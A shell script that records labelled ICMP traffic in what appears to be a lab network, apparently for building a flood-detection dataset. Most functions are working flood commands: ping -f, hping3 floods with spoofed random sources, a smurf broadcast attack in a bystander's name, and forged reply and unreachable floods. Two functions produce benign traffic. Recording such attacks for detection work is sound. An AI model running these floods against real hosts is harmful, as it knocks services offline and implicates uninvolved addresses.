#!/bin/sh
# Recordings of ICMP floods and of what looks like them. Sourced by the recorder, which gives the commands
# attacker, victim and bystander, and their addresses.

# icmp_flood-ping: attack icmp_flood ping -f from one address
record_icmp_flood_ping() {
    attacker ping -q -f -c 400 "$VICTIM" || true
}

# icmp_flood-ping6: attack icmp_flood ping over IPv6, a hundred a second
record_icmp_flood_ping6() {
    attacker ping -6 -q -i 0.01 -c 300 "$VICTIM6" || true
}

# icmp_flood-spoofed: attack icmp_flood hping3 from random addresses, 250 a second
record_icmp_flood_spoofed() {
    attacker hping3 -q -I lab0 -1 --rand-source -i u4000 -c 750 "$VICTIM" || true
}

# icmp_flood-large: attack icmp_flood echo requests in two fragments each, fifty a second
record_icmp_flood_large() {
    attacker hping3 -q -I lab0 -1 -d 1600 -a 10.77.0.250 -i u20000 -c 70 "$VICTIM" || true
}

# icmp_flood-smurf: attack icmp_flood echo requests to all hosts in the name of one
record_icmp_flood_smurf() {
    attacker hping3 -q -I lab0 -1 -a "$BYSTANDER" -i u20000 -c 100 10.77.0.255 || true
}

# icmp_flood-replies: attack icmp_flood echo replies from random addresses
record_icmp_flood_replies() {
    attacker hping3 -q -I lab0 -1 --icmptype 0 --rand-source -i u4000 -c 600 "$VICTIM" || true
}

# icmp_flood-unreachable: attack icmp_flood port-unreachable errors about what the victim never sent
record_icmp_flood_unreachable() {
    attacker hping3 -q -I lab0 -1 --icmptype 3 --icmpcode 3 --rand-source -i u4000 -c 600 "$VICTIM" || true
}

# icmp_flood-monitoring: benign icmp_flood five pings a second of two hosts, and a traceroute
record_icmp_flood_monitoring() {
    attacker ping -q -i 0.2 -c 30 "$VICTIM" &
    attacker ping -q -i 0.2 -c 30 "$BYSTANDER" &
    attacker traceroute -n -q 2 -m 5 "$VICTIM" || true
    wait
}

# icmp_flood-mtu: benign icmp_flood a few pings larger than a frame
record_icmp_flood_mtu() {
    attacker ping -q -s 4000 -c 6 "$VICTIM" || true
}
